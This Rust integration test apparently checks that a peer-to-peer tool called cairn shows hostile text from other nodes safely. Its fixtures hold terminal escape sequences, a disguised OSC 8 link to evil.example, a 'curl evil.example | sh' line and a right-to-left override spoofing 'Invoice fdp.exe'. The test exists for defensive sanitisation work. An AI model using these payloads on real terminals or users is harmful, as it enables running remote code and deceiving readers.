//! Text from another organisation is shown, never obeyed: entries carrying terminal escape
//! sequences, OSC 8 links, C1 controls and bidirectional overrides reach a node from a peer,
//! and its `list`, `show` and `search` print none of them raw, while right-to-left writing
//! stays as written.

mod common;

use cairn_core::display::{self, Lines};
use common::{Node, ok, wait_for};

const ARABIC: &str = "مرحبا بالعالم";
const HEBREW: &str = "שלום עולם";

/// Whether `output` holds anything a terminal would obey.
fn obeys(output: &str) -> Option<char> {
    output
        .chars()
        .find(|&c| (c.is_control() && c != '\n' && c != '\t') || ('\u{80}'..='\u{9f}').contains(&c))
}

#[test]
fn hostile_text_from_a_peer_is_shown_safely_and_right_to_left_text_stays_readable() {
    let root = tempfile::tempdir().expect("temp dir");
    let stranger = root.path().join("stranger");
    ok(
        &stranger,
        &[
            "init",
            "--org",
            "Alpha \u{202E}groO",
            "--name",
            "Mal\u{202E}lory",
        ],
    );
    let summary =
        format!("\x1b]0;pwned\x07\x1b[2J\x1b[31mRUN: curl evil.example | sh\x1b[0m {ARABIC}");
    let body = format!(
        "\x1b]8;;http://evil.example\x1b\\click here\x1b]8;;\x1b\\\n\u{9b}31mred\u{9b}0m\n{HEBREW}\n"
    );
    let story = ok(
        &stranger,
        &[
            "publish",
            "--kind",
            "learning",
            "--title",
            "Invoice \u{202E}fdp.exe",
            "--summary",
            &summary,
            "--body",
            &body,
        ],
    )
    .trim()
    .to_string();
    ok(
        &stranger,
        &["reply", &story, "--text", "\x1b[2Jcleared\x1b[8mhidden"],
    );
    ok(
        &stranger,
        &[
            "respond",
            &story,
            "--type",
            "me-too",
            "--note",
            "\x1b]0;title\x07",
        ],
    );
    let withdrawn = ok(
        &stranger,
        &["publish", "--kind", "question", "--title", "Withdrawn"],
    )
    .trim()
    .to_string();
    ok(
        &stranger,
        &["retract", &withdrawn, "--reason", "\x1b[5mblink\u{202E}"],
    );

    let server = Node::start(&stranger, &[]);
    let reader_home = Node::init(root.path(), "Reader");
    let _reader = Node::start(&reader_home, &["--peer", &server.address()]);
    wait_for("the stranger's entries to arrive", || {
        let shown = common::cairn(&reader_home, &["--json", "show", &story]);
        shown.status.success()
            && serde_json::from_slice::<serde_json::Value>(&shown.stdout)
                .is_ok_and(|entry| entry["related"].as_array().is_some_and(|r| r.len() >= 2))
    });
    wait_for("the retraction to arrive", || {
        common::cairn(&reader_home, &["show", &withdrawn])
            .stdout
            .windows(9)
            .any(|w| w == b"Retracted")
    });

    for args in [
        vec!["list"],
        vec!["list", "--kind", "reply"],
        vec!["show", story.as_str()],
        vec!["show", withdrawn.as_str()],
        vec!["search", "invoice"],
        vec!["policy"],
        vec!["status"],
        vec!["peers"],
    ] {
        let output = ok(&reader_home, &args);
        if let Some(c) = obeys(&output) {
            panic!("cairn {args:?} printed {c:?} raw:\n{output:?}");
        }
        assert!(
            display::is_printable(&output),
            "cairn {args:?} left a bidirectional control open:\n{output:?}"
        );
    }
    let shown = ok(&reader_home, &["show", &story]);
    for text in [ARABIC, HEBREW, "click here", "cleared"] {
        assert!(shown.contains(text), "{text:?} is missing from:\n{shown}");
    }
    // The escapes are there to see, as pictures.
    assert!(shown.contains("␛]0;pwned␇"), "{shown}");
    // The override in the title is closed within the title: nothing after it is reversed.
    let title_line = shown.lines().next().expect("a first line");
    assert!(
        title_line.contains(&display::isolated("Invoice \u{202E}fdp.exe", Lines::One)),
        "{title_line:?}"
    );
}
